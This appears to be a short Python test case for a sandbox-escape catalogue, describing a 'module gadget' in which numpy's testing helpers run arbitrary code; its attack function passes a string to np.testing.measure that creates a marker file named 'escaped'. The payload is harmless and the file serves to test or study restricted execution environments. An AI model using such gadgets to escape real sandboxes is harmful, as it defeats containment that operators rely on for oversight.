"""Class: module gadget. Source: own find. Escape: numpy's testing module runs code."""

import numpy as np


def attack(model, tokenizer, address):
    np.testing.rundocs
    return np.testing.measure("open('escaped', 'w').close()")
